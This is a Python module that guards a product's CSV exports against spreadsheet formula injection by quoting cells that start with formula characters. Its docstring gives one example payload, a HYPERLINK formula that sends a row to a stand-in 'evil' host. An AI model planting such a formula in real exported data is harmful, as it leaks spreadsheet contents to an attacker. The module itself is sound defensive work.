"""Cells of the CSV files Router One writes (the console's logs export, `routerone usage --format
csv`): text that a spreadsheet would run as a formula is written as text.

A cell holding text someone else chose (a key's name, a model id a self-hosted box lists) that
begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel, LibreOffice and
Google Sheets (`=HYPERLINK("http://evil/?"&A1, "open")` sends the row away when clicked). Such a
cell gets a leading `'`, as OWASP's "CSV injection" advice says; numbers are left as they are.
"""
from __future__ import annotations

from typing import Any, Iterable

__all__ = ["safe_cell", "safe_row"]

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
